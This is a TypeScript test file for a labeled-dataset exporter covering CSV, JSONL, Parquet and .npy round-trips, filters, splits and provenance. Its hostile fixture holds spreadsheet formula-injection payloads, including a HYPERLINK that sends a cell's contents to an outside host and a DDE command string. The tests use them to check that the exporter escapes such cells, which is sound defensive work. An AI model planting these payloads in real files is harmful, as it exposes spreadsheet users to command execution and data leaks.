import Papa from 'papaparse';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LabelMatrix } from '../matrix.ts';
import { mulberry32 } from '../rng.ts';
import {
  csvParts,
  evalGoldCount,
  type ExportProvenance,
  FORMULA_CELL,
  header,
  LABEL_SOURCES,
  labelMatrixJson,
  type LabeledData,
  labelsMeta,
  lfSetVersion,
  npyInt8,
  outputColumns,
  PARQUET_META_KEY,
  readNpyInt8,
  selectRows,
  toCsv,
  toJsonl,
  toParquet,
} from './export.ts';
import { resolvePlan, RowShaper } from './import-plan.ts';
import { SPLIT_NAMES } from '../splits.ts';
import { collect } from './testutil.ts';
import type { DataFormat, Row } from './types.ts';

async function readParquet(bytes: Uint8Array): Promise<Record<string, unknown>[]> {
  const buf = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
  return (await parquetReadObjects({ file: buf })) as Record<string, unknown>[];
}

function csvRows(csv: string): { fields: string[]; rows: Record<string, string>[] } {
  const p = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(p.errors).toEqual([]);
  return { fields: p.meta.fields ?? [], rows: p.data };
}

const GOLD = LABEL_SOURCES.indexOf('gold');

function sample(n = 40, seed = 7): LabeledData {
  const rnd = mulberry32(seed);
  const classes = ['ham', 'spam', 'other'];
  const rows: Record<string, unknown>[] = [];
  const labels = new Int32Array(n);
  const proba = new Float32Array(n * 3);
  const source = new Uint8Array(n);
  const covered = new Uint8Array(n);
  const split = new Uint8Array(n);
  for (let i = 0; i < n; i++) {
    split[i] = i % 10 === 8 ? 1 : i % 10 === 9 ? 2 : 0;
    rows.push({ text: `row ${i}, "quoted"\nnew line é ${rnd().toFixed(3)}`, n: i * 1.5, flag: i % 2 === 0, label: 'original-label' });
    const a = rnd(),
      b = rnd() * (1 - a);
    proba.set([a, b, 1 - a - b], i * 3);
    labels[i] = i % 7 === 0 ? -1 : [a, b, 1 - a - b].indexOf(Math.max(a, b, 1 - a - b));
    source[i] = labels[i] < 0 ? 0 : 1 + (i % 3);
    covered[i] = i % 5 === 0 ? 0 : 1;
  }
  return { fields: ['text', 'n', 'flag', 'label'], rows, classes, labels, proba, source, covered, split, idField: null };
}

describe('labeled dataset writers', () => {
  it('never shadows an original field', () => {
    const c = outputColumns(['label', 'shoal_label', 'p_ham'], ['ham', 'spam']);
    expect(c.label).toBe('shoal_shoal_label');
    expect(c.proba).toEqual(['shoal_p_ham', 'p_spam']);
    expect(new Set([c.label, c.labelId, c.source, ...c.proba]).size).toBe(5);
  });

  it('CSV round-trips fields, labels, probabilities and sources', () => {
    const d = sample();
    const csv = toCsv(d, selectRows(d, { includeEvalGold: true }));
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(40);
    const cols = outputColumns(d.fields, d.classes);
    parsed.data.forEach((r, i) => {
      expect(r.text).toBe(d.rows[i].text);
      expect(r.label).toBe('original-label');
      expect(Number(r.n)).toBe(i * 1.5);
      expect(Number(r[cols.labelId])).toBe(d.labels[i]);
      expect(r[cols.label]).toBe(d.labels[i] >= 0 ? d.classes[d.labels[i]] : '');
      expect(r[cols.source]).toBe(LABEL_SOURCES[d.source[i]]);
      for (let c = 0; c < 3; c++) expect(Number(r[cols.proba[c]])).toBeCloseTo(d.proba![i * 3 + c], 5);
    });
  });

  it('JSONL round-trips and keeps types', () => {
    const d = sample();
    const lines = toJsonl(d, selectRows(d, { includeEvalGold: true }))
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(40);
    const cols = outputColumns(d.fields, d.classes);
    lines.forEach((r, i) => {
      expect(r.text).toBe(d.rows[i].text);
      expect(r.flag).toBe(i % 2 === 0);
      expect(r[cols.labelId]).toBe(d.labels[i]);
      expect(r[cols.label]).toBe(d.labels[i] >= 0 ? d.classes[d.labels[i]] : null);
    });
  });

  it('Parquet round-trips through hyparquet', async () => {
    const d = sample();
    const bytes = toParquet(d, selectRows(d, { includeEvalGold: true }));
    const buf = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
    const back = (await parquetReadObjects({ file: buf })) as Record<string, unknown>[];
    expect(back).toHaveLength(40);
    const cols = outputColumns(d.fields, d.classes);
    back.forEach((r, i) => {
      expect(r.text).toBe(d.rows[i].text);
      expect(r.n).toBe(i * 1.5);
      expect(r.flag).toBe(i % 2 === 0);
      expect(r[cols.labelId]).toBe(d.labels[i]);
      expect(r[cols.label]).toBe(d.labels[i] >= 0 ? d.classes[d.labels[i]] : null);
      expect(r[cols.source]).toBe(LABEL_SOURCES[d.source[i]]);
      expect(r[cols.proba[1]] as number).toBeCloseTo(d.proba![i * 3 + 1], 6);
    });
  });

  it('filters: only covered rows, confidence threshold (gold rows always kept)', () => {
    const d = sample();
    const covered = selectRows(d, { onlyCovered: true, includeEvalGold: true });
    for (const i of covered) expect(d.covered![i] === 1 || d.source[i] === 1).toBe(true);
    expect(covered.length).toBeLessThan(40);
    const sure = selectRows(d, { minConfidence: 0.6, includeEvalGold: true });
    for (const i of sure) if (d.source[i] !== 1) expect(d.proba![i * 3 + d.labels[i]]).toBeGreaterThanOrEqual(0.6);
    // Every dropped non-gold row really was below the threshold or unlabeled.
    const kept = new Set(sure);
    for (let i = 0; i < 40; i++) {
      if (kept.has(i)) continue;
      expect(d.source[i]).not.toBe(1);
      expect(d.labels[i] < 0 || d.proba![i * 3 + d.labels[i]] < 0.6).toBe(true);
    }
    expect(Papa.parse(toCsv(d, sure), { header: true, skipEmptyLines: true }).data).toHaveLength(sure.length);
  });
});

describe('label matrix writers', () => {
  it('.npy int8 round-trips for any shape, and its header is 64-byte aligned', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 30 }), fc.integer({ min: 0, max: 7 }), fc.integer(), (n, m, seed) => {
        const rnd = mulberry32(seed);
        const cols = Array.from({ length: m }, () => Int8Array.from({ length: n }, () => Math.floor(rnd() * 4) - 1));
        const L = new LabelMatrix(n, 3, cols);
        const bytes = npyInt8(L);
        const hlen = bytes[8] | (bytes[9] << 8);
        expect((10 + hlen) % 64).toBe(0);
        expect(bytes[10 + hlen - 1]).toBe(0x0a);
        const { shape, data } = readNpyInt8(bytes);
        expect(shape).toEqual([n, m]);
        for (let i = 0; i < n; i++) for (let j = 0; j < m; j++) expect(data[i * m + j]).toBe(cols[j][i]);
      }),
      { seed: 11, numRuns: 60 },
    );
  });

  it('.npy header is what numpy writes', () => {
    const L = new LabelMatrix(2, 2, [Int8Array.from([1, -1]), Int8Array.from([0, 1])]);
    const b = npyInt8(L);
    // 10 + 58-character dict + padding + newline: the data starts at byte 128.
    expect(b.length).toBe(128 + 4);
    const head = new TextDecoder().decode(b.subarray(10, 128));
    expect(head.startsWith("{'descr': '|i1', 'fortran_order': False, 'shape': (2, 2), }")).toBe(true);
    expect(Array.from(new Int8Array(b.buffer, 128))).toEqual([1, 0, -1, 1]);
    expect(() => readNpyInt8(new Uint8Array([1, 2, 3]))).toThrow(/not a \.npy/);
  });

  it('JSON has names and row-major votes', () => {
    const L = new LabelMatrix(3, 2, [Int8Array.from([1, -1, 0]), Int8Array.from([-1, -1, 1])]);
    const j = JSON.parse(labelMatrixJson(L, ['a', 'b'], ['neg', 'pos'])) as { L: number[][]; lfs: string[]; n: number; m: number };
    expect(j.L).toEqual([
      [1, -1],
      [-1, -1],
      [0, 1],
    ]);
    expect(j.lfs).toEqual(['a', 'b']);
    expect([j.n, j.m]).toEqual([3, 2]);
    expect(() => labelMatrixJson(L, ['a'], ['neg', 'pos'])).toThrow(/2 LFs/);
  });
});

/** Two classes, one of them formula-like; rows whose cells start with each dangerous character. */
function hostile(): LabeledData {
  const texts = [
    '=HYPERLINK("http://x.test/?"&A2,"click")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,1)',
    '\t=1',
    '\r=1',
    'plain',
    '-3',
    '+1.5',
    '-2e-7',
    '-',
    '1-2',
  ];
  const n = texts.length;
  const rows = texts.map((t, i) => ({ id: `r${i}`, text: t, '=cmd': '=evil()', score: -3 - i, neg: i === 0 ? -Infinity : -0.5 }));
  const labels = Int32Array.from({ length: n }, (_, i) => (i === 6 ? -1 : i % 2));
  const proba = new Float32Array(n * 2);
  for (let i = 0; i < n; i++) proba.set([0.25, 0.75], i * 2);
  const source = Uint8Array.from(labels, (y) => (y < 0 ? 0 : 2));
  return {
    fields: ['id', 'text', '=cmd', 'score', 'neg'],
    rows,
    classes: ['=1+1', 'label'],
    labels,
    proba,
    source,
    split: new Uint8Array(n),
    idField: 'id',
  };
}

describe('spreadsheet-safe CSV', () => {
  it('prefixes a quote to every cell starting with = + - @ tab or CR, in data, label and header cells', () => {
    const d = hostile();
    const { fields, rows } = csvRows(toCsv(d));
    // Header: an original field named "=cmd" is escaped; the class columns p_=1+1 and p_label
    // start with "p", so a spreadsheet reads them as text and they stay as they are.
    expect(fields).toEqual(['id', 'text', "'=cmd", 'score', 'neg', 'label', 'label_id', 'p_=1+1', 'p_label', 'label_source', 'split']);
    expect(rows.map((r) => r.text)).toEqual([
      `'=HYPERLINK("http://x.test/?"&A2,"click")`,
      "'+1+1",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1,1)",
      "'\t=1",
      "'\r=1",
      'plain',
      '-3', // a whole decimal number: a spreadsheet reads it as a number
      '+1.5',
      '-2e-7',
      "'-", // not a number
      '1-2', // does not start with a formula character
    ]);
    for (const r of rows) expect(r["'=cmd"]).toBe("'=evil()");
    // Class names reach the label column escaped too.
    expect(rows.map((r) => r.label)).toEqual(d.labels.reduce<string[]>((a, y) => [...a, y < 0 ? '' : y === 0 ? "'=1+1" : 'label'], []));
  });

  it('exempts only whole decimal numbers: numeric cells stay numbers, everything else that starts with a sign is escaped', () => {
    const d = hostile();
    const { rows } = csvRows(toCsv(d));
    rows.forEach((r, i) => {
      expect(r.score).toBe(String(-3 - i)); // numbers are written plain…
      expect(r.label_id).toBe(String(d.labels[i])); // …so label_id = -1 stays numeric
    });
    expect(rows[0].neg).toBe("'-Infinity"); // …but a non-finite number is text, and escaped
    expect(rows[1].neg).toBe('-0.5');
    for (const lit of ['-3', '+3', '-0.5', '.5', '-1e5', '+2E-3', '-12.']) expect(FORMULA_CELL.test(lit)).toBe(false);
    for (const bad of [
      '-',
      '+',
      '-3+1',
      '-1\n=cmd()',
      '-1\n',
      '-1e5)',
      '-3 ',
      '- 3',
      '=3',
      '@3',
      '\t3',
      '\r3',
      '-0x10',
      '+1,5',
      '-Infinity',
      '-NaN',
    ])
      expect(FORMULA_CELL.test(bad)).toBe(true);
  });

  it('JSONL and Parquet keep the same cells byte-exact', async () => {
    const d = hostile();
    const lines = toJsonl(d)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const pq = await readParquet(toParquet(d));
    for (const out of [lines, pq]) {
      expect(out.map((r) => r.text)).toEqual(d.rows.map((r) => r.text));
      for (const r of out) expect(r['=cmd']).toBe('=evil()');
      expect(out.map((r) => r.label)).toEqual(Array.from(d.labels, (y) => (y < 0 ? null : d.classes[y])));
      expect(Object.keys(out[0])).toContain('p_=1+1');
    }
  });
});

describe('joinable, split-aware labels', () => {
  it('writes the id first (once), then fields, the label columns and split', () => {
    const d = hostile();
    expect(header(d)).toEqual(['id', 'text', '=cmd', 'score', 'neg', 'label', 'label_id', 'p_=1+1', 'p_label', 'label_source', 'split']);
    const noId = { ...sample(), idField: null };
    expect(header(noId)).toEqual([
      'row',
      'text',
      'n',
      'flag',
      'label',
      'shoal_label',
      'label_id',
      'p_ham',
      'p_spam',
      'p_other',
      'label_source',
      'split',
    ]);
    // A field named row or split pushes ours aside; older column names do not move.
    const c = outputColumns(['row', 'split', 'label'], ['a'], null);
    expect(c).toEqual({
      id: 'shoal_row',
      split: 'shoal_split',
      label: 'shoal_label',
      labelId: 'label_id',
      source: 'label_source',
      proba: ['p_a'],
    });
  });

  it('without an id field, `row` is the 1-based position of the row in the import, also after filtering', () => {
    const d = sample();
    const rows = selectRows(d, { onlyCovered: true });
    const lines = toJsonl(d, rows)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.map((r) => r.row)).toEqual(Array.from(rows, (i) => i + 1));
    expect(lines.map((r) => r.split)).toEqual(Array.from(rows, (i) => SPLIT_NAMES[d.split[i]]));
  });

  it('takes the id from the stored ids where the row object lacks the id field', () => {
    const d: LabeledData = { ...sample(4), idField: 'doc', ids: ['a', 'b', 'c', 'd'] };
    d.rows = d.rows.map((r, i) => (i === 2 ? { ...r, doc: 42 } : r));
    const rows = Uint32Array.from([0, 1, 2, 3]);
    const lines = toJsonl(d, rows)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.map((r) => r.doc)).toEqual(['a', 'b', 42, 'd']); // the row's own value keeps its type
    expect(() => toCsv({ ...d, ids: ['a'] }, rows)).toThrow(/1 ids for 4 rows/);
  });

  it('leaves dev/test gold rows out by default and keeps train gold; includeEvalGold brings them back', () => {
    const d = sample(200);
    const evalGold = (i: number) => d.split[i] !== 0 && d.source[i] === GOLD;
    const all = Array.from({ length: 200 }, (_, i) => i);
    expect(all.filter(evalGold).length).toBeGreaterThan(5);
    expect(all.filter((i) => d.split[i] === 0 && d.source[i] === GOLD).length).toBeGreaterThan(5);
    const def = selectRows(d);
    expect(Array.from(def)).toEqual(all.filter((i) => !evalGold(i)));
    expect(evalGoldCount(d)).toBe(all.filter(evalGold).length);
    expect(Array.from(selectRows(d, { includeEvalGold: true }))).toEqual(all);
    const { rows } = csvRows(toCsv(d));
    expect(rows.some((r) => r.split !== 'train' && r.label_source === 'gold')).toBe(false);
    expect(rows.some((r) => r.split === 'train' && r.label_source === 'gold')).toBe(true);
    expect(new Set(rows.map((r) => r.split))).toEqual(new Set(['train', 'dev', 'test'])); // dev/test rows the model labeled stay
  });

  it('writes Parquet in row groups and reports each one', async () => {
    const d = sample(40);
    const rows = selectRows(d, { includeEvalGold: true });
    const heard: number[] = [];
    const bytes = toParquet(d, rows, undefined, (w) => heard.push(w), 7);
    expect(heard).toEqual([7, 14, 21, 28, 35, 40]);
    const buf = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
    expect(parquetMetadata(buf).row_groups.map((g) => Number(g.num_rows))).toEqual([7, 7, 7, 7, 7, 5]);
    expect((await readParquet(bytes)).map((r) => r.text)).toEqual(d.rows.map((r) => r.text));
  });

  it('writes CSV in parts that join to the whole file', () => {
    const d = sample(23);
    const rows = selectRows(d, { includeEvalGold: true });
    const parts = Array.from(csvParts(d, rows, 5));
    expect(parts).toHaveLength(1 + 5);
    expect(parts.join('')).toBe(toCsv(d, rows));
    expect(csvRows(parts.join('')).rows).toHaveLength(23);
  });

  // Export → import through the project's own parser → the same ids, splits and labels.
  describe.each<[DataFormat, 'id' | null]>([
    ['csv', 'id'],
    ['jsonl', 'id'],
    ['parquet', 'id'],
    ['csv', null],
    ['jsonl', null],
    ['parquet', null],
  ])('round trip %s (id field: %s)', (format, idField) => {
    it('re-imports with the same ids, splits and labels', async () => {
      const base = sample(120, 5);
      const d: LabeledData = {
        ...base,
        fields: ['id', ...base.fields],
        rows: base.rows.map((r, i) => ({ id: `m-${(i * 7919) % 1000}`, ...r })),
        idField,
      };
      const rows = selectRows(d, { includeEvalGold: true, onlyCovered: true });
      expect(rows.length).toBeLessThan(120);
      const body = format === 'csv' ? toCsv(d, rows) : format === 'jsonl' ? toJsonl(d, rows) : toParquet(d, rows);
      const got = await collect(body, { fileName: `labels.${format}`, format });
      expect(got.result.ok).toBe(true);
      const cols = outputColumns(d.fields, d.classes, idField);
      const plan = resolvePlan(
        got.result.ok ? got.result.columns : [],
        { idField: cols.id, labelField: cols.label, classes: d.classes.slice(), split: { kind: 'column', field: cols.split } },
        'labels',
      );
      if ('code' in plan) throw new Error(plan.reason);
      const shaper = new RowShaper(plan, 'labels');
      got.rows.forEach((r: Row, t) => expect(shaper.shape(r, t + 1).ok).toBe(true));
      const back = shaper.finish();
      expect(back.n).toBe(rows.length);
      const wantIds = Array.from(rows, (i) => (idField ? String(d.rows[i].id) : String(i + 1)));
      expect(back.ids).toEqual(wantIds);
      expect(Array.from(back.split)).toEqual(Array.from(rows, (i) => d.split[i]));
      expect(Array.from(back.gold)).toEqual(Array.from(rows, (i) => d.labels[i]));
      expect(Object.keys(back.unknownLabels)).toEqual([]);
    });
  });
});

describe('export provenance', () => {
  const prov: ExportProvenance = {
    labels_from: 'label_model',
    label_model: { name: 'auto', chosen: 'wmv', run_id: 'lm-1', fitted_on_current_lfs: true },
    classifier: null,
    lf_set_version: lfSetVersion(['b', 'a']),
    lfs: ['x', 'y'],
    dataset: { name: 'd', version_id: 'v1', rows: 40 },
    exported_at: '2026-12-07T13:00:00.000Z',
  };

  it('the LF set version changes with any LF definition and not with their order', () => {
    expect(lfSetVersion(['a', 'b'])).toBe(lfSetVersion(['b', 'a']));
    expect(lfSetVersion(['a', 'b'])).not.toBe(lfSetVersion(['a', 'c']));
    expect(lfSetVersion(['a', 'b'])).not.toBe(lfSetVersion(['a', 'b', 'c']));
    expect(lfSetVersion(['a', 'b'])).toMatch(/^[0-9a-f]{40}$/);
  });

  it('the sidecar describes the file: rows per split, columns, filters, model, LF set and date', () => {
    const d = sample();
    const rows = selectRows(d);
    const m = labelsMeta(d, rows, 'd.labels.csv', 'csv', {}, prov);
    expect(m).toMatchObject({
      format: 'shoal-labels-meta/1',
      file: 'd.labels.csv',
      rows: rows.length,
      includes_dev_test_gold: false,
      csv_formula_cells_escaped: true,
      lf_set_version: lfSetVersion(['a', 'b']),
      exported_at: prov.exported_at,
    });
    expect(m.label_model).toEqual(prov.label_model);
    expect(m.rows_by_split.train + m.rows_by_split.dev + m.rows_by_split.test).toBe(rows.length);
    expect(m.rows_by_split.dev).toBe(Array.from(rows).filter((i) => d.split[i] === 1).length);
    expect(m.columns).toMatchObject({ id: 'row', id_is_position: true, split: 'split', label: 'shoal_label' });
  });

  it('Parquet carries it as key-value metadata', async () => {
    const d = sample();
    const rows = selectRows(d);
    const meta = labelsMeta(d, rows, 'd.labels.parquet', 'parquet', {}, prov);
    const bytes = toParquet(d, rows, meta);
    const buf = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
    const kv = parquetMetadata(buf).key_value_metadata ?? [];
    const entry = kv.find((e) => e.key === PARQUET_META_KEY);
    expect(JSON.parse(entry?.value ?? 'null')).toEqual(meta);
    expect((await readParquet(bytes)).map((r) => r.row)).toEqual(Array.from(rows, (i) => i + 1));
  });
});
